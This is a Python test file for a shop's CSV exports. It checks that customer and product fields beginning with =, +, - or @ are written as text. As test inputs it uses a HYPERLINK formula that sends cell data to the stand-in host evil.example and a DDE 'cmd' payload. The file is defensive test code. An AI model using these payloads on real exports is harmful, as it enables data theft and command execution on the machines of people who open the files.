"""Every CSV the project writes is safe to open in a spreadsheet: a cell a customer or a
product could start with = + - @ (or a tab or carriage return) is written as text."""

from __future__ import annotations

import csv
import io

from core.domain.orders import PaymentMethod
from core.services import cart, catalog_io, checkout
from core.services.catalog import get_product
from core.services.spreadsheet import FORMULA_STARTS
from handlers.admin.export import orders_csv
from handlers.i18n import Translator
from tests.conftest import ADDRESS, MERCHANT, add_product, new_buyer
from tests.e2e.chat_driver import ChatDriver

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Ver pedido")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def live_formulas(text: str) -> list[str]:
    return [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]


async def order_by(shop, name: str, phone: str = "+52 55 1234 5678") -> str:
    mug = await add_product(shop, "TAZA-1", price="150.00")
    buyer = await new_buyer(shop, name=name)
    await cart.add_to_cart(shop, buyer.customer_id, mug, 1)
    details = checkout.CheckoutDetails(
        name, phone, ADDRESS, "standard", PaymentMethod.CASH_ON_DELIVERY
    )
    return (await checkout.place_order(shop, buyer.customer_id, details)).code


async def test_a_formula_as_checkout_name_is_exported_as_text(shop):
    code = await order_by(shop, FORMULA_NAME)

    t = Translator("en")
    exported = orders_csv(t, "UTC", await catalog_io.orders_for_export(shop, MERCHANT))

    assert live_formulas(exported) == []
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["Order"] == code
    assert row["Customer"] == "'" + FORMULA_NAME
    assert row["Phone"] == "'+52 55 1234 5678"  # + starts a formula too


async def test_the_admin_chats_export_carries_no_live_formula(shop, tmp_path):
    await order_by(shop, "@SUM(1+1)*cmd|' /C calc'!A0")
    admin = ChatDriver(shop, "owner", name="Owner", locale="es", files=tmp_path)
    await admin.open()

    await admin.type("/exportar")

    exported = (tmp_path / "pedidos.csv").read_text(encoding="utf-8-sig")
    assert "'@SUM(1+1)" in exported
    assert live_formulas(exported) == []


async def test_product_fields_are_exported_as_text_and_imported_back_unchanged(shop):
    await add_product(shop, "DESC-1", name="-20% Taza de barro", category="=Ofertas")

    exported = await catalog_io.export_catalog(shop, MERCHANT)
    assert live_formulas(exported) == []
    assert "'-20% Taza de barro" in exported and "'=Ofertas" in exported

    await catalog_io.import_catalog(shop, MERCHANT, exported)
    product = await get_product(shop, sku="DESC-1")
    assert product.name == "-20% Taza de barro"
    assert await catalog_io.export_catalog(shop, MERCHANT) == exported
